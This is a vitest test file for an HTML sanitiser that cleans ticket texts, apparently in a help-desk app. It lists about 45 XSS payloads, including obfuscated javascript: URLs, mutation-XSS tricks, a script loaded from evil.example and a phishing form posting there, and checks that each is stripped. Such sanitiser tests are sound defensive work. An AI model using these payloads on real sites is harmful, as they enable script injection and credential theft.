import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { cleanedHtml } from './tickets.html.ts';

const bad = 'alert(1)';

/** Ways to make a page run something, load something, or show what is not there. */
const attacks = [
  `<script>${bad}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${bad}</scr</script>ipt>`,
  `<img src=x onerror=${bad}>`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload=${bad}><g/></svg>`,
  `<svg><script>${bad}</script></svg>`,
  `<svg><style><img src=x onerror=${bad}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${bad}&gt;">`,
  `<iframe src="javascript:${bad}"></iframe>`,
  `<iframe srcdoc="<script>${bad}</script>"></iframe>`,
  `<object data="javascript:${bad}"></object><embed src="javascript:${bad}">`,
  `<a href="javascript:${bad}">link</a>`,
  `<a href="JaVaScRiPt:${bad}">link</a>`,
  `<a href=" &#14; javascript:${bad}">link</a>`,
  `<a href="java\nscript:${bad}">link</a>`,
  `<a href="jav&#x09;ascript:${bad}">link</a>`,
  `<a href="&#106;&#97;vascript&colon;${bad}">link</a>`,
  `<a href="data:text/html,<script>${bad}</script>">link</a>`,
  `<a href="vbscript:${bad}">link</a>`,
  `<a href="blob:https://hub.example/1">link</a>`,
  `<a href="//evil.example">link</a>`,
  `<a href="/ticket/1">link</a>`,
  `<a href="https://good.example" onclick="${bad}" style="position:fixed;inset:0">link</a>`,
  `<p onmouseover=${bad}>text</p>`,
  `<p style="background:url(javascript:${bad})">text</p>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${bad}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
  `<button formaction="javascript:${bad}">Press</button>`,
  `<video><source onerror="${bad}"></video>`,
  `<audio src=x onerror=${bad}></audio>`,
  `<details open ontoggle=${bad}>text</details>`,
  `<body onload=${bad}>text`,
  `<div id="root" class="mantine-Modal" name="cookie">text</div>`,
  `<template><script>${bad}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${bad}>">`,
  `<textarea></textarea><img src=x onerror=${bad}>`,
  `<xmp><img src=x onerror=${bad}></xmp>`,
  `<!--><img src=x onerror=${bad}>-->`,
  `<![CDATA[<img src=x onerror=${bad}>]]>`,
  `<p>text<x:script xmlns:x="http://www.w3.org/1999/xhtml">${bad}</x:script></p>`,
  `<custom-element onpointerenter=${bad} contenteditable autofocus>text</custom-element>`,
  `<marquee onstart=${bad}>text</marquee>`,
  `<a href="https://good.example" target="_self" rel="opener">link</a>`,
];

const tags = new Set('P BR H1 H2 H3 H4 UL OL LI BLOCKQUOTE PRE HR A STRONG B EM I U S CODE'.split(' '));

/** What a browser would make of it that it should not. */
function findings(html: string): string[] {
  const { document } = new Window();
  document.body.innerHTML = html;
  return [...document.body.querySelectorAll('*')].flatMap((element) => {
    const { tagName } = element;
    if (!tags.has(tagName)) return [`<${tagName}>`];
    return [...element.attributes].flatMap(({ name, value }) => {
      if (tagName !== 'A') return [`${tagName} ${name}`];
      if (name === 'href') return /^(https?:\/\/|mailto:)/.test(value ?? '') ? [] : [`href ${value}`];
      if (name === 'rel') return value === 'noopener noreferrer nofollow' ? [] : [`rel ${value}`];
      return name === 'target' && value === '_blank' ? [] : [`A ${name}`];
    });
  });
}

describe('the texts of tickets', () => {
  it.each(attacks)('[OPEN-60] keep nothing that could run of %s', (attack) => {
    for (const html of [
      `${attack}<p>Words</p>`,
      `<p>Words ${attack} more</p>`,
      `<ul><li>${attack}Words</li></ul>`,
      // Twice: what the first cleaning leaves must not become something else in the second.
      cleanedHtml(`<p>Words</p>${attack}`) ?? '',
    ]) {
      const cleaned = cleanedHtml(html);
      expect(findings(cleaned ?? ''), html).toEqual([]);
    }
  });

  it('[OPEN-60] keep what the editor makes as it is', () => {
    const html =
      '<h2>Title</h2><p>A <strong>bold</strong> <em>word</em>, <u>this</u> and <s>that</s> in <code>code</code></p><ul><li><p>one</p></li></ul><ol><li><p>two</p></li></ol><blockquote><p>said</p></blockquote><pre><code>a &lt; b</code></pre><hr /><p><a href="https://example.com/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">link</a></p>';
    expect(cleanedHtml(html)).toBe(html);
    expect(cleanedHtml(cleanedHtml(html) ?? '')).toBe(html);
  });

  it('keep plain text as what it says', () => {
    expect(cleanedHtml('1 < 2 & 3 > 2')).toBe('1 &lt; 2 &amp; 3 &gt; 2');
    expect(cleanedHtml('&lt;script&gt;alert(1)&lt;/script&gt;')).toBe(
      '&lt;script&gt;alert(1)&lt;/script&gt;',
    );
  });

  it('[ERR-067] are nothing when no one could read them', () => {
    for (const empty of ['', '<p></p>', '<p>&nbsp;</p>', '<p> <br> </p>', '<hr>', '<p>&#8203;\u200b</p>']) {
      expect(cleanedHtml(empty), empty).toBeNull();
    }
    for (const attack of ['<script>alert(1)</script>', '<style>p{}</style>', '<img src="x">']) {
      expect(cleanedHtml(`<p>${attack}</p>`), attack).toBeNull();
    }
  });

  it('stay readable however deep someone nests them', () => {
    const cleaned = cleanedHtml(`${'<blockquote>'.repeat(3_000)}deep${'</blockquote>'.repeat(3_000)}`) ?? '';
    expect(cleaned).toContain('deep');
    expect(cleaned.split('<blockquote>').length).toBeLessThan(60);
  });
});
